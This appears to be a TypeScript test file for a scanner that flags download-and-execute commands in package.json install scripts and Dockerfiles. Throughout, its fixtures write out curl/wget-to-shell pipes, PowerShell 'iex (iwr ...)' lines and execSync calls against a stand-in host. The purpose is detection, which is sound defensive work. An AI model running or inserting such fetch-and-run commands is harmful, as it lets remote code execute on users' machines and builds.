/**
 * Commands outside the code: the package.json scripts npm runs at install and start, and a
 * Dockerfile's RUN, CMD, ENTRYPOINT and ADD (src/scan/project-commands.ts). The shell lexer on
 * its own, the rows on written command lines, two real Dockerfiles of npm MCP server packages,
 * the real installed `deno` package, and `mcpfusion scan` over a package whose postinstall runs a
 * file from its test folder and pipes a download into sh.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { readFileSync } from 'node:fs';
import { shellCommands } from '../../src/scan/shell-words.ts';
import { dockerfileCommands, packageJsonCommands, projectCommandFileKind, scanProjectCommands } from '../../src/scan/project-commands.ts';
import { run } from '../../src/cli.ts';
import { scanFiles } from '../../src/scan/scan-files.ts';
import { collectSourceFiles } from '../../src/commands/scan.ts';
import { readSourceListing } from '../../src/io/read-source.ts';

const F = 'test/fixtures/scan/project-commands';
/** `line id identifier` of each finding of a package.json with these scripts. */
const scripts = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }, null, 2), 'package.json').findings.map((f) => `${f.line} ${f.id} ${f.identifier}`);
const docker = (text: string): string[] => scanProjectCommands('Dockerfile', text, 'Dockerfile').findings.map((f) => `${f.line} ${f.id} ${f.identifier}`);

test('the shell lexer splits commands and words, keeps substitutions, drops redirections', () => {
  const words = (line: string): string[][] => shellCommands(line).map((c) => [c.after, ...c.words.map((w) => (w.subs.length > 0 ? `${w.text}{${w.subs.join('|')}}` : w.text))]);
  assert.equal(words('curl -fsSL "https://x.test/a b" | sh'), [['start', 'curl', '-fsSL', 'https://x.test/a b'], ['|', 'sh']]);
  assert.equal(words(`node -e 'require("./x")' && echo ok || true; ls`), [['start', 'node', '-e', 'require("./x")'], ['&&', 'echo', 'ok'], ['||', 'true'], [';', 'ls']]);
  assert.equal(words('bash -c "$(curl -s https://x)" 2>&1 > /dev/null'), [['start', 'bash', '-c', '{curl -s https://x}']]);
  assert.equal(words('sh <(wget -qO- https://x) # comment | sh'), [['start', 'sh', '{wget -qO- https://x}']]);
  assert.equal(words('a\\ b `id` x=$(pwd)'), [['start', 'a b', '{id}', 'x={pwd}']]);
});

test('install and start scripts: downloads, downloads run as code, the scripts they run by name', () => {
  assert.equal(scripts({ postinstall: 'curl -fsSL https://x.test/i.sh | sh' }), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|sh']);
  assert.equal(scripts({ preinstall: 'wget -qO- https://x.test/i | sudo -E bash -s -- --yes' }), ['3 network.command-download command:wget', '3 code-evaluation.command-remote-code command:wget|bash']);
  assert.equal(scripts({ install: 'bash -c "$(curl -fsSL https://x.test/i)"' }), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|bash']);
  assert.equal(scripts({ prepare: 'sh <(curl -s https://x.test/i)' }), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|sh']);
  assert.equal(scripts({ postinstall: 'powershell -NoProfile -Command "iex (iwr https://x.test/i.ps1)"' }), ['3 network.command-download command:iwr', '3 code-evaluation.command-remote-code command:iwr|iex']);
  // Followed by name through npm, yarn and pnpm, at the line of the script that holds the command.
  assert.equal(scripts({ postinstall: 'npm run setup', setup: 'yarn fetch', fetch: 'curl -o bin.tgz https://x.test/b.tgz' }), ['5 network.command-download command:curl']);
  // A download that is unpacked, saved or searched is no code run; a shell given a file runs that file.
  assert.equal(scripts({ postinstall: 'curl -L https://x.test/b.tgz | tar xz && curl -s https://x.test/v | grep 1.2' }), ['3 network.command-download command:curl']);
  assert.equal(scripts({ postinstall: 'curl -o i.sh https://x.test/i.sh && sh i.sh' }), ['3 network.command-download command:curl']);
  // Inline code is scanned as its language, at the script's line.
  assert.equal(scripts({ postinstall: `node -e "require('child_process').execSync('id')"` }), ['3 subprocess.child-process child_process.execSync']);
  assert.equal(scripts({ start: `python3 -c "import os; os.system('id')"` }), ['3 subprocess.python-os-exec os.system']);
  // prepare (run on installs from git, not from the registry) builds: only the command rows, no inline code.
  assert.equal(scripts({ prepare: 'npm run build', build: `tsc && node -e "require('fs').chmodSync('build/index.js', '755')"` }), []);
  assert.equal(scripts({ postinstall: `node -e "require('fs').chmodSync('build/index.js', '755')"` }), ['3 filesystem.node-fs-write fs.chmodSync']);
  assert.equal(scanProjectCommands('package.json', JSON.stringify({ scripts: { prepare: 'node test/gen.js' } }), 'package.json').scripts, []);
  // Scripts npm does not run by itself, and plain commands, report nothing.
  assert.equal(scripts({ test: 'curl https://x.test | sh', build: 'tsc', start: 'node dist/index.js', prepare: 'husky || true' }), []);
});

test('the files install and start scripts run, through interpreters and inline code', () => {
  const run = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }), 'package.json').scripts;
  assert.equal(run({ postinstall: 'node install.js' }), ['install.js']);
  assert.equal(run({ postinstall: 'node --no-warnings -r ./hook.cjs scripts/post.mjs && deno run -A tools/x.ts', start: 'tsx src/main.ts' }), ['scripts/post.mjs', 'tools/x.ts', 'src/main.ts']);
  assert.equal(run({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"` }), ['./postinstall']);
  assert.equal(run({ postinstall: 'python -m pkg.setup && node /abs/x.js && node $DIR/x.js', test: 'node test/run.js' }), []);
});

test('Dockerfile: RUN, CMD, ENTRYPOINT (shell and exec form, continuations, heredocs) and ADD of a URL', () => {
  const text = 'FROM node:20\n# RUN curl x | sh\nRUN apt-get update \\\n  # a comment inside\n  && curl -fsSL https://x.test/setup | bash - \\\n  && apt-get install -y nodejs\nADD https://x.test/t.tgz /opt/\nADD ./local /opt/\nENTRYPOINT ["sh", "-c", "wget -qO- https://x.test/a | sh"]\nRUN --mount=type=cache,target=/root/.cache <<EOF\ncurl -s https://x.test/b | python3\nEOF\nHEALTHCHECK --interval=30s \\\n  CMD wget --spider http://localhost:3000/health || exit 1\nCMD ["node", "index.js"]\n';
  assert.equal(docker(text), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|bash', '7 network.command-download command:ADD', '9 network.command-download command:wget', '9 code-evaluation.command-remote-code command:wget|sh', '10 network.command-download command:curl', '10 code-evaluation.command-remote-code command:curl|python3']);
  assert.equal(dockerfileCommands(text).map((c) => c.origin), ['RUN', 'ADD', 'ENTRYPOINT', 'RUN', 'CMD']);
  for (const name of ['Dockerfile', 'Containerfile', 'Dockerfile.prod', 'api.Dockerfile']) assert.is(projectCommandFileKind(name), 'Dockerfile', name);
  for (const name of ['Dockerfile.js', 'Dockerfile.d.ts', 'Makefile', 'docker-compose.yml']) assert.is(projectCommandFileKind(name), undefined, name);
});

test('real Dockerfiles of npm MCP server packages', () => {
  // @negokaz/excel-mcp-server 0.12.0's dev container: a .deb fetched with wget, zsh-in-docker run from its URL.
  assert.equal(docker(readFileSync(`${F}/excel-mcp-server/Dockerfile`, 'utf8')), ['45 network.command-download command:wget', '61 network.command-download command:wget', '61 code-evaluation.command-remote-code command:wget|sh']);
  // @google-cloud/cloud-run-mcp 1.10.0: npm install, node mcp-server.js.
  assert.equal(docker(readFileSync(`${F}/cloud-run-mcp/Dockerfile`, 'utf8')), []);
});

test('the installed deno package: its postinstall runs install.cjs, no finding of its own', () => {
  const text = readFileSync('node_modules/deno/package.json', 'utf8');
  const scan = scanProjectCommands('node_modules/deno/package.json', text, 'package.json');
  assert.equal(packageJsonCommands(text).map((c) => `${c.origin} ${c.command}`), ['scripts.postinstall node ./install.cjs']);
  assert.equal(scan, { findings: [], scripts: ['./install.cjs'] });
});

/** Run the CLI, capturing stdout and stderr. */
async function cli(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await run(argv, { stdout: (s: string) => void (stdout += s), stderr: (s: string) => void (stderr += s), cwd: process.cwd(), env: {} } as never);
  return { code, stdout, stderr };
}

test('mcpfusion scan: the package.json commands are findings, the file its postinstall runs is scanned', async () => {
  const r = await cli(['scan', `${F}/install-scripts`, '--format', 'json']);
  const json = JSON.parse(r.stdout) as { files: string[]; findings: Array<{ id: string; identifier: string; file: string; line: number; detail?: string }>; entitlements: { raw: string[]; codeEvaluation: boolean }; violations: Array<{ id: string }> };
  // test/setup.js is in a folder a walk leaves out, but the postinstall runs it.
  assert.ok(json.files.includes(`${F}/install-scripts/test/setup.js`), JSON.stringify(json.files));
  const at = json.findings.map((f) => `${f.file.slice(F.length + 1)}:${f.line} ${f.id} ${f.identifier}`);
  assert.equal(at.filter((s) => s.startsWith('install-scripts/package.json')), [
    'install-scripts/package.json:7 network.command-download command:curl',
    'install-scripts/package.json:7 code-evaluation.command-remote-code command:curl|sh',
    'install-scripts/package.json:8 filesystem.node-fs-read fs.readFileSync',
  ]);
  assert.ok(at.includes('install-scripts/test/setup.js:2 subprocess.child-process child_process.execSync'), at.join('\n'));
  assert.ok(json.entitlements.raw.includes('command:curl|sh') && json.entitlements.codeEvaluation);
  assert.ok(json.violations.some((v) => v.id === 'violation.code-evaluation-not-allowed'));
  assert.is(r.code, 1);
  // The `test` script's download is no finding: npm runs it only when asked.
  assert.not.ok(at.some((s) => s.includes('command:wget')));
});

test('scanner22: Dockerfile flags with quoted values, empty and comment lines in a continuation, heredocs, SHELL, ONBUILD, ADD of a repository', () => {
  const rows = (text: string): string[] => docker(`FROM node:20\n${text}`).map((s) => s.replace(/ (network|code-evaluation)\.command-/, ' '));
  // A flag's quoted value may hold spaces; the command comes after all flags.
  assert.equal(rows('RUN --mount=type=secret,id=npmrc,target="/root/my npmrc" --network=default curl -fsSL https://x.test/i | sh\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
  assert.equal(rows('RUN --mount=type=cache,target=/root/.cache,sharing=locked \\\n    --mount=type=bind,source=package.json,target=package.json \\\n    curl -fsSL https://x.test/i | bash\n'), ['2 download command:curl', '2 remote-code command:curl|bash']);
  // Docker drops comment and empty lines inside a continuation; the instruction goes on.
  assert.equal(rows('RUN apt-get update \\\n# install curl\n\n    && curl -fsSL https://x.test/i | sh\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
  // Exec form: JSON with escaped quotes, over continued lines.
  assert.equal(rows('CMD ["sh", "-c", "echo \\"start\\" && curl -s https://x.test/a | sh"]\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
  assert.equal(rows('ENTRYPOINT [ "bash", \\\n  "-c", \\\n  "wget -qO- https://x.test/a | bash" ]\n'), ['2 download command:wget', '2 remote-code command:wget|bash']);
  // Heredocs: run by the shell, by the command they feed, by their #! line; data for any other command.
  assert.equal(rows('RUN <<EOF bash\nset -e\ncurl -fsSL https://x.test/i | sh\nEOF\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
  assert.equal(rows('RUN <<-EOT\n\tcurl -s https://x.test/b | sh\n\tEOT\nRUN echo after\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
  assert.equal(rows('RUN python3 <<EOF\nimport subprocess\nsubprocess.run(["id"])\nEOF\n'), ['2 subprocess.python-subprocess subprocess.run']);
  assert.equal(rows('RUN <<EOF\n#!/usr/bin/env python3\nimport os\nos.system("id")\nEOF\n'), ['2 subprocess.python-os-exec os.system']);
  assert.equal(rows('RUN cat <<EOF > /etc/profile.d/x.sh\ncurl -s https://x.test/b | sh\nEOF\nRUN echo after\n'), []);
  assert.equal(rows('RUN bash setup.sh <<EOF\ncurl -s https://x.test/b | sh\nEOF\n'), []);
  // A marker inside quotes is text, and one never closed is no heredoc: the lines after are instructions.
  assert.equal(rows('RUN echo "a <<EOF b"\nRUN curl -s https://x.test/i | sh\nEOF\n'), ['3 download command:curl', '3 remote-code command:curl|sh']);
  assert.equal(rows('RUN cat <<EOF\nRUN curl -s https://x.test/i | sh\n'), ['3 download command:curl', '3 remote-code command:curl|sh']);
  // ADD: a checksum flag, a quoted source in exec form, a git repository by URL or scp-like address.
  assert.equal(rows('ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.test/t.tgz /opt/\n'), ['2 download command:ADD']);
  assert.equal(rows('ADD --chown="1000:1000" ["https://x.test/a b.tgz", "/opt/"]\n'), ['2 download command:ADD']);
  assert.equal(rows('ADD --keep-git-dir=true https://github.com/moby/buildkit.git#v0.10.1 /buildkit\nADD git@github.com:user/repo.git /repo\nADD ./local.tgz /opt/\n'), ['2 download command:ADD', '3 download command:ADD']);
  // The escape directive, SHELL (until the next stage), ONBUILD.
  assert.equal(docker('# escape=`\nFROM mcr.microsoft.com/windows/servercore\nRUN powershell -Command `\n    iex (iwr https://x.test/i.ps1)\n').map((s) => s.replace(/ (network|code-evaluation)\.command-/, ' ')), ['3 download command:iwr', '3 remote-code command:iwr|iex']);
  assert.equal(rows('SHELL ["powershell", "-Command"]\nRUN iex (iwr https://x.test/i.ps1 -UseBasicParsing).Content\nFROM node:20\nRUN echo "iex (iwr https://x.test/i.ps1)"\n'), ['3 download command:iwr', '3 remote-code command:iwr|iex']);
  // Chocolatey's documented install line, unquoted after -Command.
  assert.equal(rows("RUN powershell -NoProfile -ExecutionPolicy Bypass -Command iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n"), ['2 download command:downloadstring', '2 remote-code command:downloadstring|iex']);
  assert.equal(rows('ONBUILD RUN curl -s https://x.test/i | sh\nONBUILD ADD https://x.test/a.tgz /a/\n'), ['2 download command:curl', '2 remote-code command:curl|sh', '3 download command:ADD']);
  assert.equal(dockerfileCommands('FROM x\nONBUILD RUN a\nRUN b\n').map((c) => c.origin), ['ONBUILD RUN', 'RUN']);
});

test('scanner22: wrappers in project commands (env, cross-env, timeout, npm-run-all, concurrently, npx, shells)', () => {
  const at = (table: Record<string, string>, extra: Record<string, unknown> = {}): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table, ...extra }, null, 2), 'package.json').findings.map((f) => `${f.line} ${f.id.replace(/^(network|code-evaluation)\.command-/, '')} ${f.identifier}`);
  const runsCode = (n: number, via = 'curl|sh'): string[] => [`${n} download command:${via.split('|')[0]}`, `${n} remote-code command:${via}`];
  assert.equal(at({ postinstall: 'sh -c "curl -fsSL https://x.test/i | sh"' }), runsCode(3));
  assert.equal(at({ postinstall: "bash -lc 'wget -qO- https://x.test/i | bash'" }), runsCode(3, 'wget|bash'));
  assert.equal(at({ postinstall: 'eval "$(curl -fsSL https://x.test/env)"' }), runsCode(3, 'curl|eval'));
  // Prefixes with their options and values, assignments, a duration, env -S's command line.
  assert.equal(at({ postinstall: 'env -u HOME -i PATH=/bin curl -s https://x.test/i -o x' }), ['3 download command:curl']);
  assert.equal(at({ postinstall: 'timeout 60 curl -s https://x.test/i | sh' }), runsCode(3));
  assert.equal(at({ postinstall: 'sudo -u root -E nice -n 10 curl -s https://x.test/i | sh' }), runsCode(3));
  assert.equal(at({ postinstall: "env -S 'curl -s https://x.test/i' | sh" }), runsCode(3));
  // `command -v curl` looks curl up and runs nothing; `command curl …` runs it.
  assert.equal(at({ postinstall: 'command -v curl >/dev/null && echo ok || command -V wget' }), []);
  assert.equal(at({ postinstall: 'command curl -s https://x.test/i -o x' }), ['3 download command:curl']);
  assert.equal(at({ postinstall: 'cross-env-shell "curl -s https://x.test/i | sh"' }), runsCode(3));
  assert.equal(at({ postinstall: 'sh -c "curl -s https://x.test/i" | bash' }), runsCode(3, 'curl|bash'));
  assert.equal(at({ postinstall: 'echo hi && (curl -s https://x.test/i | sh) || true; echo done' }), runsCode(3));
  // Scripts run by name through npm-run-all (globs), concurrently's npm: arguments, wrappers.
  assert.equal(at({ postinstall: 'npm-run-all --parallel fetch build', fetch: 'curl -o b https://x.test/b', build: 'tsc' }), ['4 download command:curl']);
  assert.equal(at({ postinstall: 'run-s "setup:**"', 'setup:a:b': 'curl -o b https://x.test/b', 'setup:c': 'tsc' }), ['4 download command:curl']);
  assert.equal(at({ postinstall: 'run-p -l setup:*', 'setup:a:b': 'curl -o b https://x.test/b' }), []);
  assert.equal(at({ start: 'concurrently -n a,b "npm:watch-*" "node server.js"', 'watch-a': 'curl -o b https://x.test/b' }), ['4 download command:curl']);
  assert.equal(at({ start: 'concurrently "curl -s https://x.test/i | sh" "node s.js"' }), runsCode(3));
  assert.equal(at({ postinstall: 'cross-env CI=1 npm run fetch', fetch: 'curl -o b https://x.test/b' }), ['4 download command:curl']);
  assert.equal(at({ postinstall: 'sh -c "npm run fetch"', fetch: 'curl -o b https://x.test/b' }), ['4 download command:curl']);
  // Another package's scripts are not this table's.
  assert.equal(at({ postinstall: 'npm --prefix sub run fetch && yarn workspace a run fetch', fetch: 'curl -o b https://x.test/b' }), []);
  // Package runners: a package fetched from the registry when not a dependency and run unasked (-y, dlx); what it runs is read.
  assert.equal(at({ postinstall: 'npx -y some-installer@latest --quiet' }), ['3 download command:npx']);
  assert.equal(at({ postinstall: 'pnpm dlx create-x && yarn dlx y' }), ['3 download command:pnpm-dlx', '3 download command:yarn-dlx']);
  assert.equal(at({ postinstall: 'npx -y some-installer' }, { devDependencies: { 'some-installer': '^1' } }), []);
  assert.equal(at({ postinstall: 'npx tsx scripts/setup.ts && npm exec -- curl -s https://x.test/i -o i' }), ['3 download command:curl']);
  const files = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }), 'package.json').scripts;
  assert.equal(files({ postinstall: 'npx tsx scripts/setup.ts', start: 'cross-env NODE_ENV=production node dist/server.js' }), ['scripts/setup.ts', 'dist/server.js']);
  assert.equal(files({ start: 'concurrently "npm:a" "node s.js"', a: 'bun run b.ts' }), ['s.js', 'b.ts']);
});

test('scanner22: scanFiles reads a package.json or Dockerfile among its entry files as the CLI reads the ones its walk meets', async () => {
  // The library on the files a walk gives: the same findings and files as `mcpfusion scan DIR`.
  const dir = `${F}/install-scripts`;
  const projectFiles: string[] = [];
  const entries = await collectSourceFiles([dir], process.cwd(), [], [], [], [], projectFiles);
  const library = await scanFiles([...entries, ...projectFiles], { readSource: readSourceListing });
  const r = await cli(['scan', dir, '--format', 'json']);
  const json = JSON.parse(r.stdout) as { files: string[]; findings: Array<{ file: string; line?: number; id: string; identifier?: string }> };
  const rel = (f: string): string => f.slice(f.indexOf(F));
  const key = (f: { file?: string; line?: number; id: string; identifier?: string }): string => `${rel(f.file ?? "")}:${f.line} ${f.id} ${f.identifier}`;
  assert.equal(library.findings.map(key), json.findings.map(key));
  assert.equal(library.files.map(rel), json.files.map(rel));
  assert.ok(library.findings.some((f) => f.id === 'code-evaluation.command-remote-code'));
  // In memory: the scripts a package.json's postinstall runs are entry files too, a Dockerfile is read.
  const mem = new Map([['/p/package.json', '{"scripts":{"postinstall":"node ./scripts/post"}}'], ['/p/scripts/post.js', "require('child_process').execSync('id');"], ['/p/Dockerfile', 'FROM node\nRUN curl -s https://x.test/i | sh\n']]);
  const scan = await scanFiles(['/p/package.json', '/p/Dockerfile'], { readSource: (p: string) => mem.get(p) });
  assert.equal(scan.files, ['/p/scripts/post.js']);
  assert.equal(scan.findings.map((f) => `${f.file}:${f.line} ${f.id}`), ['/p/scripts/post.js:1 subprocess.child-process', '/p/Dockerfile:2 network.command-download', '/p/Dockerfile:2 code-evaluation.command-remote-code']);
  // A project file that does not exist is not analyzed, never clean.
  const missing = await scanFiles(['/p/none/package.json'], { readSource: () => undefined });
  assert.equal(missing.findings.map((f) => `${f.id} ${f.detail}`), ['scan.not-analyzed the commands of this package.json were not read: the file does not exist']);
});

test.run();
